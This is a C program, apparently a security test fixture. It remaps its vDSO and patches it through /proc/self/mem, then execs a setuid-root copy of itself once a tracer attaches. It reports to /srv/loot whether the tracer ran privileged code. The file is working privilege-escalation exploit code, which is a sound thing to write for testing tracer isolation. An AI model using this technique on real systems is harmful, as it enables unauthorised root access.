/* A datagram server that executes another program with more privileges as soon as its drain lets it run: a copy of itself that
 * is setuid root, and that reads its standard input, which is the socket. Before, the server has moved its vDSO to the address
 * at which the copy has the function `grant`, and has put a system call instruction at the beginning. If the drain runs an
 * instruction of the copy, the copy says so in /srv/loot. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

volatile int granted;

#ifdef __x86_64__
/* granted = 1; sched_yield(); */
asm(".section .grant,\"ax\",@progbits\n.balign 4096\n.globl grant\ngrant:\n"
    "movl $1, granted(%rip)\nmov $24, %eax\nsyscall\nud2\n.fill 65536\n.text");
extern unsigned char grant[];

static void move_vdso(void)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512];
	uint64_t start = 0, end = 0;
	int memory = open("/proc/self/mem", O_RDWR);

	while (fgets(line, sizeof line, maps))
		if (strstr(line, "[vdso]"))
			sscanf(line, "%lx-%lx", &start, &end);
	if (pwrite(memory, "\x0f\x05", 2, (off_t)start) != 2)
		exit(3);
	if (mremap((void *)start, end - start, end - start, MREMAP_MAYMOVE | MREMAP_FIXED, grant) != grant)
		exit(4);
	close(memory);
}
#else
static void move_vdso(void) {}
#endif

static int is_traced(void)
{
	char status[4096];
	int fd = open("/proc/self/status", O_RDONLY);
	ssize_t length = read(fd, status, sizeof status - 1);
	close(fd);
	status[length > 0 ? length : 0] = 0;
	char *tracer = strstr(status, "TracerPid:\t");
	return tracer && tracer[11] != '0';
}

int main(void)
{
	char input[64];

	if (geteuid() == 0) {
		fcntl(0, F_SETFL, O_NONBLOCK);
		for (int i = 0; i < 20 && !granted; i++) {
			read(0, input, sizeof input);
			usleep(10000);
		}
		int fd = open("/srv/loot", O_WRONLY | O_APPEND);
		dprintf(fd, granted ? "granted\n" : "became root\n");
		return 0;
	}
	move_vdso();
	dup2(3, 0);
	/* The program that follows ends by itself, whenever its drain is over. */
	signal(SIGINT, SIG_IGN);
	while (!is_traced());
	execl("/srv/web/more", "more", NULL);
	return 5;
}
